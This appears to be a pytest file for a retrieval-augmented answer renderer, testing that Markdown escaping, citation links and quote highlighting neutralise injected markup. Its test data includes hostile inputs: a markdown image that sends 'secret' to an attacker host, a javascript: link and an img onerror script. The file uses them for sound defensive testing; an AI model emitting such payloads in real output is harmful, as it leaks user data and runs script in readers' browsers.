"""Escaped Markdown renders to exactly the text it came from: checked with a real CommonMark parser."""

import html

import pytest
from markdown_it import MarkdownIt

from rag.serving.render import answer_markdown, escape_markdown, quotes_in_paragraph

HOSTILE = [
    "![x](http://attacker/?q=secret)",
    "[click](javascript:alert(1)) and <img src=x onerror=alert(1)>",
    "# not a heading\n- not a list\n1. not a list\n> not a quote\n    not code",
    "**bold** _em_ `code` ~~strike~~ | a | table |",
    ":red[colour] :material/home: $x^2$ \\ backslash",
    "<https://autolink.example> www.example.com http://bare.example",
]


def rendered(markdown: str) -> str:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(markdown)


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_has_no_markup(text):
    out = rendered(escape_markdown(text))
    assert "<img" not in out and "<a " not in out and "<h1" not in out and "<li" not in out
    assert "<code" not in out and "<strong" not in out and "<table" not in out and "<blockquote" not in out


@pytest.mark.parametrize("text", HOSTILE)
def test_escaped_text_reads_as_the_original(text):
    out = html.unescape(rendered(escape_markdown(text)).replace("<p>", "").replace("</p>", "").replace("<br />", ""))
    out = out.replace("\u2060", "")  # the invisible joiners that keep URLs from being linked
    assert " ".join(out.split()) == " ".join(text.split())


def test_bare_urls_and_addresses_cannot_be_linkified():
    out = rendered(escape_markdown("http://a.example/x www.b.example c@d.example"))
    assert "://a" not in out and "www.b" not in out and "c@d" not in out  # a joiner sits inside each


def test_only_known_markers_become_links():
    md = answer_markdown("Claim [1]. Bogus [9]. ![x](http://a/b)", {1}, message_index=3)
    out = rendered(md)
    assert out.count("<a ") == 1 and 'href="#sources-3"' in out and "[9]" in out and "<img" not in out


def test_a_quote_is_highlighted_in_its_paragraph_by_offsets_and_fails_closed():
    text = "Headline\nFirst sentence. The cited one. Last one.\nNext paragraph."
    start = text.index("The cited")
    shown = quotes_in_paragraph(text, [(start, start + 14, "The cited one.")])
    assert shown.pieces == (("First sentence. ", False), ("The cited one.", True), (" Last one.", False))
    assert ":orange-background[**The cited one\\.**]" in shown.markdown()
    assert quotes_in_paragraph(text, [(start + 1, start + 15, "The cited one.")]) is None  # offsets do not match
    assert quotes_in_paragraph(text, [(start, len(text) + 5, "The cited one.")]) is None
    assert quotes_in_paragraph("changed article", [(0, 5, "The c")]) is None


def test_long_paragraphs_are_trimmed_around_the_quote():
    text = "word " * 500 + "THE QUOTE." + " tail" * 500
    start = text.index("THE QUOTE.")
    before, _, after = quotes_in_paragraph(text, [(start, start + 10, "THE QUOTE.")]).pieces
    assert before[0].startswith("…") and after[0].endswith("…") and len(before[0]) < 400


ARTICLE = ("Talks collapse\n"
           "The summit was cancelled on Tuesday. Officials cited “no progress”. ![x](http://evil/p.png) Talks end.\n"
           "A later paragraph said the sanctions hit Rosneft.")


def _citation(n, quote, source="a.txt"):
    start = ARTICLE.index(quote)
    return {"id": n, "source": source, "title": "Talks", "quote": quote, "start": start, "end": start + len(quote),
            "also_in": [], "passage_id": "p1"}


def test_one_entry_per_cited_paragraph_with_every_quote_in_it_highlighted():
    from rag.serving.render import source_entries

    citations = [_citation(1, "The summit was cancelled on Tuesday."), _citation(2, "the sanctions hit Rosneft."),
                 _citation(3, "Talks end.")]
    entries = source_entries(citations, {"a.txt": ARTICLE})
    assert [e["ids"] for e in entries] == [[1, 3], [2]]
    html_out = rendered(entries[0]["markdown"])
    assert html_out.count(":orange-background[") == 2 and "<img" not in html_out and "Officials cited" in html_out
    assert "later paragraph" not in html_out


def test_a_changed_article_gets_no_highlight_at_all():
    from rag.serving.render import source_entries

    entries = source_entries([_citation(1, "The summit was cancelled on Tuesday.")],
                             {"a.txt": ARTICLE.replace("Tuesday", "Monday")})
    assert entries[0]["markdown"] is None and entries[0]["quotes"] == ["The summit was cancelled on Tuesday."]
    assert source_entries([_citation(1, "Talks end.")], {"a.txt": None})[0]["markdown"] is None


def test_markers_carry_their_quote_as_a_plain_title_and_lead_to_their_entry():
    out = answer_markdown('Cancelled [1], then [3].', {1: 'He said "no" ![x](http://e/p)', 3: "Talks end."}, 0)
    html_out = rendered(out)
    assert 'href="#sources-0" title="He said &quot;no&quot; ![x](http://e/p)"' in html_out
    assert html_out.count('href="#sources-0"') == 2 and "<img" not in html_out


def test_left_out_sentences_are_struck_through_with_why():
    from rag.serving.render import left_out_markdown

    support = [{"sentence": "Kept [1].", "citations": [1], "supported": True},
               {"sentence": "Talks moved to *Lisbon*.", "citations": [2], "supported": False},
               {"sentence": "Nobody cited this.", "citations": [], "supported": None},
               {"sentence": "The articles don't say.", "citations": [], "supported": None}]
    text = left_out_markdown(support)
    lines = text.splitlines()[2:]
    assert lines == [r"- :orange[~~Talks moved to \*Lisbon\*\.~~] — not supported by the passage it cites \[2\]",
                     r"- :orange[~~Nobody cited this\.~~] — cites no passage"]
    assert left_out_markdown(support[:1]) is None and left_out_markdown([]) is None
